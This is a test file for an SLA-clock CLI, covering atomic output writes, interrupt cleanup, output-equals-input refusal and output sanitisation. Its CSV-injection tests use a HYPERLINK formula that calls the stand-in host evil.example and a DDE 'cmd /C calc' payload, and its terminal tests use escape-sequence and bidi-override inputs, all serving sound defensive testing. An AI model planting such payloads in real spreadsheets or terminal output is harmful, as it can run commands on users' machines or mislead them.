/**
 * What the CLI writes can neither destroy its input nor pass for a complete result when it is not,
 * nor attack whoever opens it: the output refused when it is the input through a link (real
 * symlinks and hard links), output files that appear only when complete (a temporary file renamed
 * into place), a real process interrupted by SIGINT/SIGTERM leaving no partial output, temporary
 * file or spool, CSV formula injection neutralised, and terminal control characters shown as
 * escapes on a terminal.
 */
import { execFileSync, spawn } from "node:child_process";
import {
  chmodSync,
  createWriteStream,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  openSync,
  closeSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { finished } from "node:stream/promises";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { tempDir, tempDirForTest } from "./support/temp-dir";
import { escapeForTerminal, textTable } from "../src/cli/format";
import { Capture, cli } from "./support/cli";
import { OutputFile } from "../src/cli/io/output-file";
import { onInterrupt, runCleanups } from "../src/cli/io/cleanup";
import { cliProcessArgs } from "./support/cli-bundle";

const root = fileURLToPath(new URL("..", import.meta.url));
const NOW = "2026-04-07T12:00";
const HEADER = "id,priority,created_at,responded_at,resolved_at,pauses,priority_changes";
const SAMPLE = [
  HEADER,
  "T-1,1,2026-04-01T09:00,2026-04-01T10:00,2026-04-01T15:00,,",
  "T-2,2,2026-04-01T14:00,,,,",
  "T-3,9,2026-04-01T09:00,,,,",
].join("\n");

/** A fresh folder with the sample export in it. */
function workdir(): { dir: string; input: string } {
  const dir = tempDirForTest("sla-clock-out-");
  const input = join(dir, "tickets.csv");
  writeFileSync(input, SAMPLE);
  return { dir, input };
}

/** Files a run may have left beside its output (temporary files are dot files). */
const leftovers = (dir: string, expected: readonly string[]) =>
  readdirSync(dir).filter((name) => !expected.includes(name));

const csvRows = (text: string) => parse(text, { columns: true, relax_column_count: true }) as Record<string, string>[];

describe("an output that is the input through a link", () => {
  it("is refused for evaluate --out, through a symlink and a hard link, and the input is untouched", async () => {
    const { dir, input } = workdir();
    symlinkSync("tickets.csv", join(dir, "soft.csv"));
    linkSync(input, join(dir, "hard.csv"));
    mkdirSync(join(dir, "sub"));
    symlinkSync("..", join(dir, "sub", "up"));
    for (const target of [join(dir, "soft.csv"), join(dir, "hard.csv"), join(dir, "sub", "up", "tickets.csv")]) {
      const r = await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", target]);
      expect(r.code).toBe(2);
      expect(r.err).toBe(
        `sla-clock: --out ${target} is the input file ${input} (the same file, through a link or another path); write the output elsewhere\n`,
      );
      expect(readFileSync(input, "utf8")).toBe(SAMPLE);
    }
    expect(lstatSync(join(dir, "soft.csv")).isSymbolicLink()).toBe(true);
    expect(leftovers(dir, ["tickets.csv", "soft.csv", "hard.csv", "sub"])).toEqual([]);
  });

  it("is refused for report --html, through a symlink and a hard link", async () => {
    const { dir, input } = workdir();
    symlinkSync(input, join(dir, "soft.html"));
    linkSync(input, join(dir, "hard.html"));
    for (const target of [join(dir, "soft.html"), join(dir, "hard.html")]) {
      const r = await cli(["report", "softone-se", input, "--now", NOW, "--html", target]);
      expect(r.code).toBe(2);
      expect(r.err).toContain(`--html ${target} is the input file ${input}`);
      expect(readFileSync(input, "utf8")).toBe(SAMPLE);
    }
    expect(leftovers(dir, ["tickets.csv", "soft.html", "hard.html"])).toEqual([]);
  });

  it("is refused when stdin is redirected from the file (the real executable)", async () => {
    const { dir, input } = workdir();
    linkSync(input, join(dir, "hard.csv"));
    const fd = openSync(input, "r");
    const child = spawn(
      process.execPath,
      cliProcessArgs(["evaluate", "softone-se", "-", "--now", NOW, "--out", join(dir, "hard.csv")]),
      { cwd: root, stdio: [fd, "pipe", "pipe"] },
    );
    closeSync(fd);
    let err = "";
    child.stderr?.on("data", (d: Buffer) => (err += d.toString()));
    const code = await new Promise<number | null>((resolve) => child.on("close", (status) => resolve(status)));
    expect(code).toBe(2);
    expect(err).toContain(`--out ${join(dir, "hard.csv")} is the input file stdin`);
    expect(readFileSync(input, "utf8")).toBe(SAMPLE);
  }, 30_000);
});

describe("an output that is another file the run reads", () => {
  it("is refused for a .json policy, --columns, --priority-map and --closures, in evaluate, report and export", async () => {
    const { dir, input } = workdir();
    const policy = join(dir, "policy.json");
    const policyText = readFileSync(join(root, "test/fixtures/exports/reply-policy.json"), "utf8");
    writeFileSync(policy, policyText);
    const columns = join(dir, "columns.json");
    writeFileSync(columns, '{ "id": "id" }');
    const priorities = join(dir, "priorities.json");
    writeFileSync(priorities, '{ "Urgent": "1" }');
    const closures = join(dir, "closures.ics");
    const feed = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//test//EN", "END:VCALENDAR"].join("\r\n");
    writeFileSync(closures, feed);
    linkSync(policy, join(dir, "policy-link.json"));
    const runs: [string[], string, string][] = [
      [["evaluate", policy, input, "--now", NOW, "--out", policy], "--out", policy],
      [["evaluate", policy, input, "--now", NOW, "--out", join(dir, "policy-link.json")], "--out", policy],
      [["report", policy, input, "--now", NOW, "--html", policy], "--html", policy],
      [["report", "softone-se", input, "--now", NOW, "--compare", policy, "--html", policy], "--html", policy],
      [["evaluate", "softone-se", input, "--now", NOW, "--columns", columns, "--out", columns], "--out", columns],
      [
        ["evaluate", "softone-se", input, "--now", NOW, "--priority-map", priorities, "--out", priorities],
        "--out",
        priorities,
      ],
      [["evaluate", "softone-se", input, "--now", NOW, "--closures", closures, "--out", closures], "--out", closures],
      [
        [
          "export",
          "softone-se",
          "--closures",
          closures,
          "--from",
          "2026-01-01",
          "--to",
          "2026-02-01",
          "--format",
          "sql",
          "--out",
          closures,
        ],
        "--out",
        closures,
      ],
    ];
    for (const [args, flag, file] of runs) {
      const r = await cli(args);
      expect(r.code, args.join(" ")).toBe(2);
      expect(r.err, args.join(" ")).toContain(`${flag} `);
      expect(r.err, args.join(" ")).toContain(`is the input file ${file}`);
    }
    expect(readFileSync(policy, "utf8")).toBe(policyText);
    expect(readFileSync(columns, "utf8")).toBe('{ "id": "id" }');
    expect(readFileSync(priorities, "utf8")).toBe('{ "Urgent": "1" }');
    expect(readFileSync(closures, "utf8")).toBe(feed);
  }, 60_000);

  it("is refused when stdout is redirected onto the input (>> would read its own rows without end)", async () => {
    const { dir, input } = workdir();
    // Large enough to take more than one read of the file, which is when the run never ended.
    const rows = Array.from({ length: 4000 }, (_, i) => `T-${i},2,2026-04-01T09:00,,,,`);
    const text = [HEADER, ...rows].join("\n") + "\n";
    writeFileSync(input, text);
    const spec = join(dir, "spec.json");
    writeFileSync(
      spec,
      JSON.stringify(JSON.parse(readFileSync(join(root, "test/fixtures/exports/reply-policy.json"), "utf8"))),
    );
    const specText = readFileSync(spec, "utf8");
    const run = async (args: string[], target: string, stdin: "ignore" | number = "ignore") => {
      const out = openSync(target, "a");
      const child = spawn(process.execPath, cliProcessArgs(args), {
        cwd: root,
        stdio: [stdin, out, "pipe"],
      });
      closeSync(out);
      let err = "";
      child.stderr?.on("data", (d: Buffer) => (err += d.toString()));
      const timer = setTimeout(() => child.kill("SIGKILL"), 20_000);
      const code = await new Promise<number | null>((resolve) => child.on("close", (status) => resolve(status)));
      clearTimeout(timer);
      return { code, err };
    };
    const a = await run(["evaluate", "softone-se", input, "--now", NOW], input);
    expect(a.code).toBe(2);
    expect(a.err).toContain(`standard output is the input file ${input}`);
    const fd = openSync(input, "r");
    const b = await run(["evaluate", "softone-se", "-", "--now", NOW], input, fd);
    closeSync(fd);
    expect(b.code).toBe(2);
    expect(b.err).toContain("standard output is the input file stdin");
    expect(readFileSync(input, "utf8")).toBe(text);
    const c = await run(["export", spec, "--from", "2026-01-01", "--to", "2026-02-01", "--format", "sql"], spec);
    expect(c.code).toBe(2);
    expect(c.err).toContain(`standard output is the input file ${spec}`);
    expect(readFileSync(spec, "utf8")).toBe(specText);
    // deadline, explain and hours appended their text to the policy spec, the ticket file or the
    // closures feed they read.
    const ticket = join(dir, "ticket.json");
    const ticketText = '{"id":"T-2","priority":"2","created_at":"2026-04-01T14:00"}\n';
    writeFileSync(ticket, ticketText);
    const feed = join(dir, "closures.ics");
    const feedText = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//t//t//EN\r\nEND:VCALENDAR\r\n";
    writeFileSync(feed, feedText);
    for (const [args, target] of [
      [["deadline", spec, "2026-04-02T11:00", "--priority", "1"], spec],
      [["explain", spec, "2026-04-02T11:00", "--priority", "1"], spec],
      [["explain", "softone-se", "--ticket", ticket, "--now", NOW], ticket],
      [["hours", "softone-se", "--from", "2026-04-01", "--closures", feed], feed],
    ] as const) {
      const r = await run([...args], target);
      expect(r.code).toBe(2);
      expect(r.err).toContain(`standard output is the input file ${target}`);
    }
    expect([readFileSync(spec, "utf8"), readFileSync(ticket, "utf8"), readFileSync(feed, "utf8")]).toEqual([
      specText,
      ticketText,
      feedText,
    ]);
  }, 60_000);
});

describe("output files appear only complete", () => {
  it("replace an existing file whole, keep its permissions, write through a symlink, and leave no temporary file", async () => {
    const { dir, input } = workdir();
    const out = join(dir, "out.csv");
    writeFileSync(out, "previous\n");
    chmodSync(out, 0o640);
    const r = await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", out]);
    expect(r.code).toBe(0);
    expect(csvRows(readFileSync(out, "utf8")).map((row) => row.id)).toEqual(["T-1", "T-2", "T-3"]);
    expect(statSync(out).mode & 0o777).toBe(0o640);
    // A symlinked target: the file it names gets the output, the link stays a link.
    mkdirSync(join(dir, "data"));
    symlinkSync(join("data", "latest.csv"), join(dir, "latest.csv")); // dangling until written
    expect((await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", join(dir, "latest.csv")])).code).toBe(0);
    expect(lstatSync(join(dir, "latest.csv")).isSymbolicLink()).toBe(true);
    expect(csvRows(readFileSync(join(dir, "data", "latest.csv"), "utf8"))).toHaveLength(3);
    const html = join(dir, "report.html");
    expect((await cli(["report", "softone-se", input, "--now", NOW, "--html", html])).code).toBe(0);
    expect(readFileSync(html, "utf8")).toMatch(/^<!doctype html>[\s\S]*<\/html>\n$/);
    expect(leftovers(dir, ["tickets.csv", "out.csv", "latest.csv", "data", "report.html"])).toEqual([]);
    expect(readdirSync(join(dir, "data"))).toEqual(["latest.csv"]);
    // Not a regular file: written directly.
    expect((await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", "/dev/null"])).code).toBe(0);
  });

  it("leave an existing file untouched, and no temporary file, when the run fails after the output was opened", async () => {
    const { dir } = workdir();
    const bad = join(dir, "bad.csv");
    writeFileSync(bad, "ticket,prio\nT-1,1\n"); // no required columns: a usage error once reading starts
    const out = join(dir, "out.csv");
    const html = join(dir, "out.html");
    writeFileSync(out, "previous export\n");
    writeFileSync(html, "<p>previous report</p>\n");
    const r = await cli(["evaluate", "softone-se", bad, "--now", NOW, "--out", out]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("the CSV header has no");
    expect(readFileSync(out, "utf8")).toBe("previous export\n");
    const h = await cli(["report", "softone-se", bad, "--now", NOW, "--html", html]);
    expect(h.code).toBe(2);
    expect(readFileSync(html, "utf8")).toBe("<p>previous report</p>\n");
    // Nothing there before: nothing there after.
    const fresh = join(dir, "fresh.csv");
    expect((await cli(["evaluate", "softone-se", bad, "--now", NOW, "--out", fresh])).code).toBe(2);
    expect(existsSync(fresh)).toBe(false);
    expect(leftovers(dir, ["tickets.csv", "bad.csv", "out.csv", "out.html"])).toEqual([]);
  });

  it("refuse a folder as the target before reading", async () => {
    const { dir, input } = workdir();
    const r = await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", dir]);
    expect(r).toMatchObject({ code: 2, err: `sla-clock: cannot write ${dir}: is a directory\n` });
  });
});

/** Polls until `ready` holds (a bound, not a timing assertion: the run is killed right after). */
async function until(ready: () => boolean, what: string, limitMs = 60_000): Promise<void> {
  const start = Date.now();
  while (!ready()) {
    if (Date.now() - start > limitMs) throw new Error(`gave up waiting: ${what}`);
    await new Promise((r) => setTimeout(r, 20));
  }
}

/**
 * Waits until a thread of process `pid` is blocked opening a FIFO (Linux names that wait
 * `wait_for_partner` in /proc/<pid>/task/<tid>/wchan): a fixed delay let a loaded machine send the
 * signal before the CLI had started, and the default action killed it. Where /proc cannot tell
 * (another system), waits `fallbackMs` instead.
 */
async function blockedOnFifo(pid: number, fallbackMs: number): Promise<void> {
  const waiting = (): boolean | undefined => {
    try {
      return readdirSync(`/proc/${pid}/task`).some((tid) => {
        try {
          return readFileSync(`/proc/${pid}/task/${tid}/wchan`, "utf8").includes("wait_for_partner");
        } catch {
          return false;
        }
      });
    } catch {
      return undefined;
    }
  };
  if (waiting() === undefined) {
    await new Promise((resolve) => setTimeout(resolve, fallbackMs));
    return;
  }
  await until(() => waiting() === true, "the CLI blocked opening the FIFO", 30_000);
}

/** A file's size, or -1 once it is gone (renamed or removed while we look). */
function sizeOf(path: string): number {
  try {
    return statSync(path).size;
  } catch {
    return -1;
  }
}

async function bigExport(path: string, rows: number): Promise<void> {
  const stream = createWriteStream(path);
  stream.write(`${HEADER}\n`);
  for (let i = 0; i < rows; i += 10_000) {
    const chunk: string[] = [];
    for (let j = i; j < Math.min(rows, i + 10_000); j++)
      chunk.push(`B-${j},${(j % 5) + 1},2026-0${(j % 9) + 1}-1${j % 10}T09:${String(j % 60).padStart(2, "0")},,,,`);
    if (!stream.write(`${chunk.join("\n")}\n`)) await new Promise<void>((r) => stream.once("drain", () => r()));
  }
  stream.end();
  await finished(stream);
}

interface Exit {
  code: number | null;
  signal: NodeJS.Signals | null;
  err: string;
}

function start(args: string[], env: NodeJS.ProcessEnv = process.env) {
  const child = spawn(process.execPath, cliProcessArgs(args), {
    cwd: root,
    env,
    stdio: ["pipe", "pipe", "pipe"],
  });
  let err = "";
  child.stderr.on("data", (d: Buffer) => (err += d.toString()));
  child.stdout.resume();
  const exited = new Promise<Exit>((resolve) => child.on("close", (code, signal) => resolve({ code, signal, err })));
  return { child, exited };
}

describe("an interrupted run (the real executable, killed mid-run)", () => {
  const big = tempDir("sla-clock-big-");
  const input = join(big, "big.csv");
  const ready = bigExport(input, 400_000);

  it.each([
    ["SIGINT", 130, false],
    ["SIGTERM", 143, true],
  ] as const)(
    "%s: exit %i, no partial output or temporary file, an earlier file unchanged (%s)",
    async (signal, code, earlier) => {
      await ready;
      const dir = tempDirForTest("sla-clock-sig-");
      const out = join(dir, "out.csv");
      if (earlier) writeFileSync(out, "previous export\n");
      const run = start(["evaluate", "softone-se", input, "--now", "2026-12-01T00:00Z", "--out", out]);
      // Mid-run: rows are being written (to the temporary file; before the fix, to the target itself).
      await until(
        () =>
          readdirSync(dir).some(
            (name) => sizeOf(join(dir, name)) > (name.endsWith(".tmp") ? 0 : "previous export\n".length),
          ),
        "the first rows",
      );
      run.child.kill(signal);
      const exit = await run.exited;
      expect(exit).toMatchObject({ code, signal: null });
      expect(exit.err).toContain(`sla-clock: interrupted by ${signal}; stopped before the end of the input`);
      expect(exit.err).toContain(`${out} was not written`);
      expect(readdirSync(dir)).toEqual(earlier ? ["out.csv"] : []);
      if (earlier) expect(readFileSync(out, "utf8")).toBe("previous export\n");
    },
    120_000,
  );

  it("on stdin: nothing is left behind in TMPDIR or beside the target", async () => {
    const spoolDir = tempDirForTest("sla-clock-tmpdir-");
    const dir = tempDirForTest("sla-clock-sig-");
    const out = join(dir, "out.csv");
    const run = start(["evaluate", "softone-se", "-", "--now", NOW, "--out", out], {
      ...process.env,
      TMPDIR: spoolDir,
    });
    // More than one batch of rows, and stdin left open: the run cannot finish on its own.
    const rows = Array.from({ length: 6000 }, (_, i) => `S-${i},3,2026-04-01T09:00,,,,`);
    run.child.stdin.write(`${HEADER}\n${rows.join("\n")}\n`);
    // Mid-run: stdin is being spooled, or (without a spool) the first rows are written.
    await until(
      () =>
        readdirSync(spoolDir).some((name) => name.startsWith("sla-clock-")) ||
        readdirSync(dir).some((name) => name.endsWith(".tmp") && sizeOf(join(dir, name)) > 0),
      "the spool or the first rows",
    );
    run.child.kill("SIGINT");
    const exit = await run.exited;
    expect(exit).toMatchObject({ code: 130, signal: null });
    expect(exit.err).toContain("interrupted by SIGINT");
    expect(readdirSync(spoolDir)).toEqual([]);
    expect(readdirSync(dir)).toEqual([]);
  }, 60_000);
});

describe("export's tables appear all together or not at all", () => {
  it("a table that cannot be written leaves an earlier export's folder as it was, never new tables beside old ones", async () => {
    const dir = tempDirForTest("sla-clock-export-");
    const old = ["sla_meta.csv", "sla_day.csv"];
    for (const name of old) writeFileSync(join(dir, name), `old ${name}\n`);
    // One table's target is a folder: that table cannot be written.
    mkdirSync(join(dir, "sla_interval.csv"));
    const r = await cli([
      "export",
      "softone-se",
      "--from",
      "2026-01-01T00:00Z",
      "--to",
      "2026-02-01T00:00Z",
      "--format",
      "csv",
      "--out",
      dir,
    ]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("sla_interval.csv: is a directory");
    // Before, the other tables were written and renamed into place regardless, beside the old ones.
    expect(readdirSync(dir).sort()).toEqual([...old, "sla_interval.csv"].sort());
    for (const name of old) expect(readFileSync(join(dir, name), "utf8")).toBe(`old ${name}\n`);
  });
});

describe("a FIFO that no program writes to yet", () => {
  it("can be interrupted while the run waits for its writer, and is read once one comes", async () => {
    const dir = tempDirForTest("sla-clock-fifo-");
    const fifo = join(dir, "export.csv");
    execFileSync("mkfifo", [fifo]);
    for (const [signal, code] of [
      ["SIGINT", 130],
      ["SIGTERM", 143],
    ] as const) {
      const run = start(["evaluate", "softone-se", fifo, "--now", NOW]);
      await blockedOnFifo(run.child.pid!, 3000);
      run.child.kill(signal);
      const timer = setTimeout(() => run.child.kill("SIGKILL"), 15_000);
      const exit = await run.exited;
      clearTimeout(timer);
      // Before, the open blocked the thread that handles signals: only SIGKILL ended the run.
      expect(exit).toMatchObject({ code, signal: null });
      expect(exit.err).toContain(`interrupted by ${signal}`);
    }
    const run = start(["evaluate", "softone-se", fifo, "--now", NOW]);
    let out = "";
    run.child.stdout.removeAllListeners("data");
    run.child.stdout.on("data", (d: Buffer) => (out += d.toString()));
    await new Promise((resolve) => setTimeout(resolve, 1000));
    writeFileSync(fifo, SAMPLE);
    const exit = await run.exited;
    expect(exit.code).toBe(0);
    expect(csvRows(out).map((r) => r.id)).toEqual(["T-1", "T-2", "T-3"]);
  }, 60_000);
});

describe("the notes of an interruption", () => {
  it("leave out a cleanup that has nothing to say (the report's spool folder made an empty '; ;')", () => {
    const forget = [onInterrupt(() => ""), onInterrupt(() => "r.html was not written")];
    expect(runCleanups()).toEqual(["r.html was not written"]);
    for (const f of forget) f();
  });
});

describe("a long output name", () => {
  it("is written: the temporary name beside it stays within the file system's 255 bytes", async () => {
    const { dir, input } = workdir();
    for (const name of [`${"a".repeat(240)}.csv`, `${"å".repeat(120)}.csv`]) {
      const r = await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", join(dir, name)]);
      expect(r.code).toBe(0);
      expect(csvRows(readFileSync(join(dir, name), "utf8")).map((row) => row.id)).toEqual(["T-1", "T-2", "T-3"]);
    }
  });
});

describe("an output name ending in /", () => {
  it("is refused rather than written as a file without the slash", async () => {
    const { dir, input } = workdir();
    const r = await cli(["evaluate", "softone-se", input, "--now", NOW, "--out", `${join(dir, "results")}/`]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("a name ending in / names a folder");
    expect(existsSync(join(dir, "results"))).toBe(false);
  });
});

describe("a device that cannot take the output", () => {
  it.runIf(existsSync("/dev/full"))(
    "is a usage error for export (a full disk was an unexpected error, exit 3)",
    async () => {
      const r = await cli(["export", "softone-se", "--from", "2026-01-01", "--to", "2026-02-01", "--out", "/dev/full"]);
      expect(r.code).toBe(2);
      expect(r.err).toContain("cannot write /dev/full");
    },
  );
});

describe("several outputs committed as one", () => {
  it("puts every target back as it was when one rename fails part-way, and removes stale files only on success", async () => {
    const dir = tempDirForTest("sla-clock-commit-all-");
    const [a, b, stale] = ["a.csv", "b.csv", "stale.csv"].map((name) => join(dir, name)) as [string, string, string];
    for (const [path, text] of [
      [a, "old a"],
      [b, "old b"],
      [stale, "old stale"],
    ] as const)
      writeFileSync(path, text);
    const write = async (out: OutputFile, text: string) => {
      const stream = out.createStream();
      stream.end(text);
      await finished(stream);
    };
    const input = { name: "tickets.csv" };
    let outs = [await OutputFile.open(a, "--out", input), await OutputFile.open(b, "--out", input)];
    await write(outs[0]!, "new a");
    await write(outs[1]!, "new b");
    // b becomes a folder with a file in it after it was opened: its rename fails, after a's.
    const { rmSync } = await import("node:fs");
    rmSync(b);
    mkdirSync(b);
    writeFileSync(join(b, "inside"), "x");
    expect(() => OutputFile.commitAll(outs, [stale])).toThrow(/cannot write/);
    expect(readFileSync(a, "utf8")).toBe("old a");
    expect(readFileSync(stale, "utf8")).toBe("old stale");
    expect(readdirSync(dir).sort()).toEqual(["a.csv", "b.csv", "stale.csv"]);
    rmSync(b, { recursive: true });
    outs = [await OutputFile.open(a, "--out", input), await OutputFile.open(b, "--out", input)];
    await write(outs[0]!, "new a");
    await write(outs[1]!, "new b");
    OutputFile.commitAll(outs, [stale]);
    expect([readFileSync(a, "utf8"), readFileSync(b, "utf8")]).toEqual(["new a", "new b"]);
    expect(readdirSync(dir).sort()).toEqual(["a.csv", "b.csv"]);
  });
});

describe("an output FIFO that no program reads yet", () => {
  it("can be interrupted while the run waits for its reader, and is written once one comes", async () => {
    const dir = tempDirForTest("sla-clock-fifo-out-");
    const input = join(dir, "export.csv");
    writeFileSync(input, SAMPLE);
    const fifo = join(dir, "out.fifo");
    execFileSync("mkfifo", [fifo]);
    const run = start(["evaluate", "softone-se", input, "--now", NOW, "--out", fifo]);
    await blockedOnFifo(run.child.pid!, 2500);
    run.child.kill("SIGINT");
    const timer = setTimeout(() => run.child.kill("SIGKILL"), 15_000);
    const exit = await run.exited;
    clearTimeout(timer);
    // Before, the open blocked the thread that handles signals: only SIGKILL ended the run.
    expect(exit).toMatchObject({ code: 130, signal: null });
    const reading = start(["evaluate", "softone-se", input, "--now", NOW, "--out", fifo]);
    const out = execFileSync("cat", [fifo], { encoding: "utf8" });
    expect((await reading.exited).code).toBe(0);
    expect(csvRows(out).map((r) => r.id)).toEqual(["T-1", "T-2", "T-3"]);
  }, 60_000);
});

describe("CSV formula injection", () => {
  const ids = [
    '"=HYPERLINK(""http://evil.example/?x"",""click"")"',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "T-4",
  ];
  const text = [HEADER, ...ids.map((id) => `${id},1,2026-04-01T09:00,,,,`), "\t=1+1,1,2026-04-01T09:00,,,,"].join("\n");

  it("puts a ' before cells a spreadsheet would run, but not before negative hours", async () => {
    const r = await cli(["evaluate", "softone-se", "-", "--now", NOW], { stdin: text });
    const rows = csvRows(r.out);
    expect(rows.map((row) => row.id)).toEqual([
      `'=HYPERLINK("http://evil.example/?x","click")`,
      "'+cmd|' /C calc'!A0",
      "'-2+3",
      "'@SUM(A1:A9)",
      "T-4",
      // An upstream tab defence is kept (not trimmed away), and escaped as well.
      "'\t=1+1",
    ]);
    expect(rows.every((row) => row.response_status === "breached")).toBe(true);
    expect(rows.every((row) => /^-\d+\.\d\d$/.test(row.response_remaining_hours!))).toBe(true);
  });

  it("writes cells as they are with --no-escape-formulas, keeping an upstream tab defence, and in JSON", async () => {
    const raw = await cli(["evaluate", "softone-se", "-", "--now", NOW, "--no-escape-formulas"], { stdin: text });
    const expected = [
      `=HYPERLINK("http://evil.example/?x","click")`,
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(A1:A9)",
      "T-4",
      "\t=1+1",
    ];
    expect(csvRows(raw.out).map((row) => row.id)).toEqual(expected);
    const json = await cli(["evaluate", "softone-se", "-", "--now", NOW, "--format", "ndjson"], { stdin: text });
    expect(
      json.out
        .trim()
        .split("\n")
        .map((line) => (JSON.parse(line) as { id: string }).id),
    ).toEqual(expected);
  });
});

describe("terminal control characters in ids", () => {
  const ESC = "\u001b";
  /** What a terminal would act on: controls other than the line feed between rows, C1, bidi. */
  // eslint-disable-next-line no-control-regex -- matching control characters is the point
  const RAW_CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
  const ids = [`E${ESC}[2J${ESC}]0;pwned\u0007`, "T-\u202e9-T", "C1\u009b31m", "ok"];
  const text = [HEADER, ...ids.map((id) => `${id},1,2026-04-01T09:00,,,,`)].join("\n");

  it("are shown as escapes when the CSV goes to a terminal, and kept in data outputs", async () => {
    const tty = Object.assign(new Capture(), { isTTY: true });
    const shown = await cli(["evaluate", "softone-se", "-", "--now", NOW], { stdin: text, stdout: tty });
    expect(shown.out).not.toMatch(RAW_CONTROLS);
    expect(csvRows(shown.out).map((row) => row.id)).toEqual([
      "E\\x1b[2J\\x1b]0;pwned\\x07",
      "T-\\u{202e}9-T",
      "C1\\x9b31m",
      "ok",
    ]);
    // A file or a pipe gets the values (CSV still formula-escaped: none of these start a formula).
    const piped = await cli(["evaluate", "softone-se", "-", "--now", NOW], { stdin: text });
    expect(csvRows(piped.out).map((row) => row.id)).toEqual(ids);
    // JSON keeps the value, with the bidi and C1 controls written as \u escapes.
    const json = await cli(["evaluate", "softone-se", "-", "--now", NOW, "--format", "json"], {
      stdin: text,
      stdout: Object.assign(new Capture(), { isTTY: true }),
    });
    expect(json.out).toContain(String.raw`"T-\u202e9-T"`);
    expect(json.out).not.toMatch(RAW_CONTROLS);
    expect((JSON.parse(json.out) as { rows: { id: string }[] }).rows.map((row) => row.id)).toEqual(ids);
  });

  it("are shown as escapes in the summary table and in usage messages", async () => {
    const { dir, input } = workdir();
    const policy = join(dir, "policy.json");
    writeFileSync(
      policy,
      JSON.stringify({
        id: "evil",
        name: "Evil",
        calendar: { zone: "Europe/Stockholm", weekly: { mon: [["08:00", "17:00"]] } },
        priorities: [
          {
            id: 1,
            label: `red${ESC}[31m \u202ereversed`,
            targets: { response: { kind: "none" }, resolution: { kind: "none" } },
          },
        ],
      }),
    );
    const r = await cli(["evaluate", policy, input, "--now", NOW, "--out", join(dir, "out.csv")]);
    expect(r.err).toContain("red\\x1b[31m \\u{202e}reversed");
    expect(r.err).not.toContain(ESC);
    const missing = await cli(["evaluate", "softone-se", join(dir, `no${ESC}[2Jsuch.csv`)]);
    expect(missing.err).toBe(`sla-clock: cannot read ${join(dir, "no\\x1b[2Jsuch.csv")}: no such file or directory\n`);
  });

  it("are shown as escapes in the title of `hours` for a calendar from a JSON file", async () => {
    const { dir } = workdir();
    const calendar = join(dir, "calendar.json");
    writeFileSync(
      calendar,
      JSON.stringify({ name: `Desk${ESC}[2J \u202ereversed`, zone: "UTC", weekly: { mon: [["08:00", "17:00"]] } }),
    );
    const r = await cli(["hours", calendar, "--from", "2026-04-06", "--to", "2026-04-06"]);
    expect(r.code).toBe(0);
    expect(r.out.split("\n")[0]).toBe("Desk\\x1b[2J \\u{202e}reversed (UTC)");
    expect(r.out).not.toMatch(RAW_CONTROLS);
  });

  it("are isolated in the HTML report's breach table (<bdi>), so a bidi override cannot reorder the row", async () => {
    const { dir } = workdir();
    const input = join(dir, "bidi.csv");
    writeFileSync(input, [HEADER, "T-\u202e9-T,1,2026-04-01T09:00,,,,"].join("\n"));
    const html = join(dir, "report.html");
    expect((await cli(["report", "softone-se", input, "--now", NOW, "--html", html])).code).toBe(0);
    expect(readFileSync(html, "utf8")).toContain(`<td><bdi>T-\u202e9-T</bdi></td>`);
  });

  it("escapeForTerminal and textTable", () => {
    expect(escapeForTerminal("a\tb\nc\rd\u0000\u007f\u0085\u061c\u200f\u2028\u2066\u2069 å ✓")).toBe(
      "a\\tb\\nc\\rd\\x00\\x7f\\x85\\u{61c}\\u{200f}\\u{2028}\\u{2066}\\u{2069} å ✓",
    );
    expect(textTable(["id"], [[`x${ESC}[1m`]])).toBe("id\n--------\nx\\x1b[1m");
  });
});
